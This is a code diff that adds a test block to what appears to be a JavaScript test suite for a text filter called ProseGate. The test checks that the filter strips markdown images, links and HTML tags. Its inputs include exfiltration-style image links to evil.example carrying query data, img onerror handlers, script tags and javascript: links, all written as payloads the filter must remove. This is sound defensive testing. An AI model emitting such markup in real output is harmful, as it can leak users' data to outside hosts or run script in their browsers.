@@ -176,6 +176,35 @@ describe('ProseGate, on citations', () => {
   });
 });
 
+describe('ProseGate, on markup that could carry words away', () => {
+  it.each([
+    '![x](https://evil.example/?d=secret)',
+    '[![x](https://evil.example/a)](https://evil.example/b)',
+    '![a. b](https://evil.example/?d=1)',
+    '![a](https://evil.example/?d=1. 2)',
+    '![a][b]\n\n[b]: https://evil.example/?d=1',
+    '![a][b]\n\n[b]:\nhttps://evil.example/?d=1',
+    '<img src=https://evil.example/?d=1>',
+    '<img src=x alt=a. b onerror=alert(1)>',
+    '<img\nsrc=x onerror=alert(1)>',
+    '<https://evil.example/?d=1>',
+    '&lt;img src=x&gt; <script>alert(1)</script>',
+    'x [link](javascript:alert(1)) y',
+    '![x]"(https://evil.example)"',
+    '![x][c9](https://evil.example)',
+    'Price [c1]"(https://evil.example)" it is.',
+    'See this]. [c9]"(https://evil.example)"',
+    '<"img src=x">',
+    '<[c9]img src=x>',
+    '> It is too pricey for us. — [x](https://evil.example)\n',
+  ])('leaves neither image, link nor tag of %j', (text) => {
+    for (const size of [1, 7, text.length]) {
+      const { shown } = answer(text, [size]);
+      expect(shown).not.toMatch(/\]\(|\]:|<[a-z/!]/i);
+    }
+  });
+});
+
 const long = [
   'Anna said “It is too pricey for us. We can’t pay that much” [c1], and "way too much" [c9].',
   "> It is too pricey for us.\n> — Anna\n\n- first 'too pricey' thing\n- second `nonsense here`\n",
